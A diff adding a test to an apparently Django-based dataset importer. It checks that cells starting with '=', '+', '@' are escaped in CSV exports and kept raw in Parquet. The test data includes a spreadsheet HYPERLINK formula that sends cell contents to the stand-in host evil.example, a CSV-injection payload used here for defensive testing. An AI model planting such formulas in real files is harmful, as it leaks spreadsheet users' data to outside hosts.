@@ -110,6 +110,33 @@ def test_kept_rows_download_as_csv_and_parquet(client_for, owner, frozen) -> Non
     assert pq.read_table(io.BytesIO(content)).num_rows == 60
 
 
+def test_what_looks_like_a_formula_is_none_in_what_a_spreadsheet_opens(
+    upload, run_job, owner, client_for
+) -> None:
+    link = '=HYPERLINK(""http://evil.example/?""&A1)'
+    import_ = upload(
+        tickets() + f'\n"{link}","billing"\n"-5","billing"\n"+cmd","billing"\n"@SUM(1)",\n'.encode()
+    )
+    run_job(import_.job)
+    import_.refresh_from_db()
+    version = services.confirm_import(
+        actor=owner, import_=import_, task_type="classification", roles={"text": "input", "label": "label"}
+    )
+    run_job(version.job)
+    client = client_for(owner)
+
+    def cells(name: str) -> set[str]:
+        text = _body(client.get(reverse(f"datasets:{name}", args=[version.pk]))).decode("utf-8-sig")
+        return {cell for row in csv.reader(io.StringIO(text)) for cell in row}
+
+    kept, rejected = cells("kept_csv"), cells("rejected_csv")
+    assert {'\'=HYPERLINK("http://evil.example/?"&A1)', "-5", "'+cmd"} <= kept
+    assert not any(cell.startswith(("=", "+", "@")) for cell in kept | rejected)
+    parquet = _body(client.get(reverse("datasets:kept_parquet", args=[version.pk])))
+    prompts = pq.read_table(io.BytesIO(parquet))["prompt"].to_pylist()
+    assert "+cmd" in [prompt[0]["content"] for prompt in prompts]
+
+
 def test_rejected_rows_are_shown_and_downloaded_with_line_and_reason(
     upload, run_job, owner, client_for
 ) -> None:
